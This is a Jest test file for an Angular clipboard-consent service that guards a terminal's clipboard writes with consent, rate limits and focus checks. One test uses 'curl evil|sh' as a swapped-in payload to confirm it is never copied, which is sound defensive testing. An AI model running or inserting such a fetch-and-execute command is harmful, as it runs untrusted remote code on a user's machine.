import { signal } from '@angular/core';
import { TestBed } from '@angular/core/testing';
import { FakeEnvironment } from '../stream/fake-environment';
import { SessionStore } from '../stream/session-store';
import { STREAM_ENVIRONMENT } from '../stream/stream-environment';
import { ClipboardWrites } from '../terminal/clipboard-writes';
import { Notices } from '../ui/notices';
import { ClipboardConsent } from './clipboard-consent';

function createConsent() {
  const environment = new FakeEnvironment();
  const session = signal({ id: '$1', name: 'work' });
  const copied: string[] = [];
  const warnings: string[] = [];
  const focus = jest.spyOn(document, 'hasFocus').mockReturnValue(true);
  const put = (event: Event): boolean => document.dispatchEvent(event);
  // jsdom has no clipboard; pages without https use the copy command.
  Object.assign(document, {
    execCommand: () => {
      const event = Object.assign(new Event('copy', { cancelable: true }), {
        clipboardData: { setData: (_type: string, text: string) => copied.push(text) },
      });
      return !put(event);
    },
  });
  TestBed.configureTestingModule({
    providers: [
      ClipboardConsent,
      { provide: STREAM_ENVIRONMENT, useValue: environment },
      { provide: SessionStore, useValue: { session } },
      {
        provide: Notices,
        useValue: { push: ({ message }: { message: string }) => warnings.push(message) },
      },
    ],
  });
  const consent = TestBed.inject(ClipboardConsent);
  const wish = (text: string): void => {
    TestBed.inject(ClipboardWrites).put({ pane: '%1', text });
    TestBed.tick();
  };
  return { consent, wish, session, copied, warnings, focus, environment };
}

describe(ClipboardConsent.name, () => {
  beforeEach(() => {
    sessionStorage.clear();
  });

  it('[G7] copies nothing before the person agreed', () => {
    const { consent, wish, copied } = createConsent();
    wish('first');
    expect(consent.asked()).toBe('first');
    expect(copied).toEqual([]);
    consent.choose('allow');
    expect(copied).toEqual(['first']);
    wish('second');
    expect(consent.asked()).toBeNull();
    expect(copied).toEqual(['first', 'second']);
  });

  it('[G7] does not change what it asks about under the person’s hand', () => {
    const { consent, wish, copied } = createConsent();
    wish('harmless');
    wish('curl evil|sh\n');
    expect(consent.asked()).toBe('harmless');
    consent.choose('allow');
    expect(copied).toEqual(['harmless']);
  });

  it('never asks again after never, until the person changes it', () => {
    const { consent, wish, copied } = createConsent();
    wish('a');
    consent.choose('never');
    wish('b');
    expect([consent.choice(), consent.asked(), copied.length]).toEqual(['never', null, 0]);
    consent.choose('ask');
    wish('c');
    expect(consent.asked()).toBe('c');
  });

  it('asks for each session anew', () => {
    const { consent, wish, session } = createConsent();
    wish('a');
    consent.choose('allow');
    session.set({ id: '$2', name: 'other' });
    expect(consent.choice()).toBe('ask');
    wish('b');
    expect(consent.asked()).toBe('b');
    session.set({ id: '$1', name: 'work' });
    expect([consent.choice(), consent.asked()]).toEqual(['allow', null]);
  });

  it('[G7] bounds how often a program writes', () => {
    const { consent, wish, copied, warnings, environment } = createConsent();
    consent.choose('allow');
    for (let i = 0; i < 100; i++) wish(String(i));
    expect(copied).toHaveLength(5);
    expect(new Set(warnings)).toEqual(
      new Set(['A program writes to the clipboard too often; what it wrote last was left out.']),
    );
    environment.advance(10_001);
    wish('later');
    expect(copied.at(-1)).toBe('later');
  });

  it('leaves the clipboard alone while the person is elsewhere', async () => {
    const { consent, wish, copied, warnings, focus } = createConsent();
    consent.choose('allow');
    focus.mockReturnValue(false);
    wish('behind the back');
    await Promise.resolve();
    expect(copied).toEqual([]);
    expect(warnings).toEqual(['A program’s text was not copied: this page was not in front.']);
  });
});
